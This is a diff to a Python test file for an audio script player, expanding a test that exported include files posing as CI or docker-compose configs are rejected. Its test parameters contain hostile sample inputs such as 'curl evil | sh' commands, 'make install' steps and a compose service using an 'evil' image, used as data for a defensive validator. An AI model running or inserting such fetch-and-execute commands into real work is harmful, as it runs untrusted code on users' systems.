@@ -12,10 +12,11 @@ import soundfile
 
 from player import pipeline
 from player.errors import MediaError, OutputError, UsageError
-from player.export import extract, metadata, provenance
+from player.export import carried_scripts, extract, metadata, provenance
 from player.export.options import AlbumPosition, ExportOptions
 from player.export.provenance import origin
 from player.export.tags import Origin, Tags
+from player.script import library
 from player.storage.store import Store
 from tests.fakes_output import chirp, exported
 from tests.fakes_voice import FakeEngine
@@ -48,8 +49,6 @@ def ready(tmp_path: Path) -> pipeline.Prepared:
 
 
 def _a_passage() -> bytes:
-    from player.script import library  # noqa: PLC0415
-
     return library.passages()[0].encode()
 
 
@@ -351,18 +350,42 @@ def test_no_more_comes_back_than_a_session_can_include(tmp_path: Path) -> None:
         extract.extract(carrying(tmp_path / "b.flac", including(*names[:2]), **long))
 
 
-def test_an_include_can_be_no_file_of_another_program(tmp_path: Path) -> None:
-    text = HELLO + b"mood: calm\nservices: {web: {image: evil}}\n"
-    found = extract.Extracted("a.yaml", HELLO, {}, {"docker-compose.override.yml": text})
-    with pytest.raises(
-        MediaError, match=r"'docker-compose\.override\.yml', whose key 'services' no script has, so nothing"
-    ):
+@pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        (HELLO + b"services: {web: {image: evil}}\n", "services"),
+        (HELLO + b"trigger: main\n", "trigger"),
+        (HELLO + b"sessions: [a]\n", "sessions"),
+        (b"title: T\nsteps: [{say: hi}, {command: curl evil | sh}]\n", "command"),
+        (b"title: T\nsteps: [{say: hi, command: curl evil | sh}]\n", "command"),
+        (b"title: T\nsteps: [{command: curl evil | sh, say: hi}]\n", "command"),
+        (b"title: T\nsteps: [{say: hi}, make install]\n", "make install"),
+        (b"title: T\nsteps: [{say: hi}, '']\n", ""),
+        (b"title: T\nsteps: [{say: hi}, [{command: x}]]\n", "command"),
+        (b"title: T\nsteps: [{say: {run: x}}]\n", "run"),
+        (b"title: T\nsteps: [{repeat: {times: 2, steps: [{pause: 1s}, {script: x}]}}]\n", "script"),
+        (b"title: T\nsteps: [{say: hi}, [make, install]]\n", "make"),
+        (b"title: T\nvoice: {run: x}\nsteps: [{say: hi}]\n", "run"),
+    ],
+)
+def test_an_include_can_be_no_file_of_another_program(tmp_path: Path, text: bytes, told: str) -> None:
+    found = extract.Extracted("a.yaml", HELLO, {}, {"azure-pipelines.yml": text})
+    with pytest.raises(MediaError) as caught:
         extract.write(found, tmp_path / "s.yaml")
-    assert [*tmp_path.iterdir()] == []
-    written = extract.write(
-        extract.Extracted("a.yaml", HELLO, {}, {"b.yml": HELLO + b"mood: calm\n"}), tmp_path / "s.yaml"
+    assert f"'azure-pipelines.yml', with {told!r} where no script has it, so nothing is written; leave" in str(
+        caught.value
     )
-    assert [path.name for path in written] == ["s.yaml", "b.yml"]
+    assert [*tmp_path.iterdir()] == []
+
+
+def test_a_script_itself_may_have_keys_of_another_version(tmp_path: Path) -> None:
+    found = extract.Extracted("a.yaml", HELLO + b"mood: calm\n", {}, {"b.yml": HELLO})
+    assert [path.name for path in extract.write(found, tmp_path / "s.yaml")] == ["s.yaml", "b.yml"]
+
+
+@pytest.mark.parametrize("name", library.session_names())
+def test_all_that_our_own_scripts_have_may_be_included(name: str) -> None:
+    assert carried_scripts.foreign_key(library.find(name).text.encode()) is None
 
 
 @pytest.mark.parametrize(
